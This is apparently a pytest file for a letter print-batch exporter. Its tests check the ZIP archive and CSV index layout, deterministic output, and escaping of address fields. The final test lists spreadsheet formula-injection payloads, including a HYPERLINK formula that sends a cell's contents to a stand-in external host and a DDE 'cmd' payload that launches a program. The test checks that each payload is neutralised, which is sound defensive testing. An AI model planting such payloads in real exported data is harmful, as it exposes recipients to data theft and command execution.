from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from dataclasses import replace
from uuid import UUID

import pytest

from punktlig.formats.print_batch import HEADER, PrintedLetter, print_batch

PDF = b"%PDF-1.7 a letter"


def printed(number: int = 1, recipient: tuple[str, ...] = ("Anna Ek", "Björkvägen 7")) -> PrintedLetter:
    return PrintedLetter(
        letter_id=UUID(int=number),
        pdf=PDF,
        sha256=hashlib.sha256(PDF).hexdigest(),
        sheets=2,
        recipient=recipient,
        postcode="123 46",
        town="Lillsjön",
        country="SE",
    )


def index(data: bytes) -> list[list[str]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return list(csv.reader(io.StringIO(archive.read("index.csv").decode(), newline=""), delimiter=";"))


def test_the_zip_has_a_row_and_a_file_for_each_letter_in_their_order() -> None:
    data = print_batch([printed(2), printed(1)], return_address="Ekviken Ombud AB, Box 120, 831 22 Östersund")
    header, *rows = index(data)
    assert tuple(header) == HEADER
    assert [row[0] for row in rows] == [str(UUID(int=2)), str(UUID(int=1))]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        assert archive.namelist() == ["index.csv", *(row[1] for row in rows)]
        assert archive.read(rows[0][1]) == PDF
    assert rows[0][2:9] == [hashlib.sha256(PDF).hexdigest(), "2", "yes", "no", "standard", "Anna Ek", "Björkvägen 7"]
    assert rows[0][9:] == ["", "", "", "", "123 46", "Lillsjön", "SE", "Ekviken Ombud AB, Box 120, 831 22 Östersund"]


def test_the_same_letters_are_the_same_bytes() -> None:
    letters = [printed(1), printed(2)]
    assert print_batch(letters, return_address="Box 1") == print_batch(letters, return_address="Box 1")


def test_an_address_of_more_than_six_lines_goes_on_in_the_sixth() -> None:
    (_, row) = index(print_batch([printed(recipient=tuple("ABCDEFGH"))], return_address="Box 1"))
    assert row[7:13] == ["A", "B", "C", "D", "E", "F, G, H"]


@pytest.mark.parametrize("name", ['A; "B"', "Två\nrader", "Bygg = Bo & Co", "Łukasz Żółć"])
def test_any_name_is_one_cell(name: str) -> None:
    (_, row) = index(print_batch([printed(recipient=(name, "Gatan 1"))], return_address="Box 1"))
    assert (row[7], row[8], len(row)) == (name, "Gatan 1", len(HEADER))


@pytest.mark.parametrize("line", ["- lgh 1102", "+Plus Bygg AB", "@Home i Sverige AB", "-65 Års-klubben c/o Ek"])
def test_an_address_is_in_the_index_as_it_is_in_the_window(line: str) -> None:
    (_, row) = index(print_batch([printed(recipient=("Anna Ek", line))], return_address="Box 1"))
    assert row[8] == line


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://elsewhere.example/?"&C2;"Anna Ek")',
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1+1",
        "\n=1+1",
        "＝1+1",
        "=Anna",
        "-cmd|' /C calc'!A0",
        "+[bok]blad!A1",
        "@HYPERLINK(A1)",
        "-file:///c/x#blad.A1",
        "+Anna&B2",
    ],
)
def test_no_name_is_a_formula_when_a_person_opens_the_index(name: str) -> None:
    hostile = replace(printed(recipient=(name, name)), postcode=name, town=name, country=name)
    (_, row) = index(print_batch([hostile], return_address="Box 1"))
    assert {row[place] for place in (7, 8, 13, 14, 15)} == {f"'{name}"}
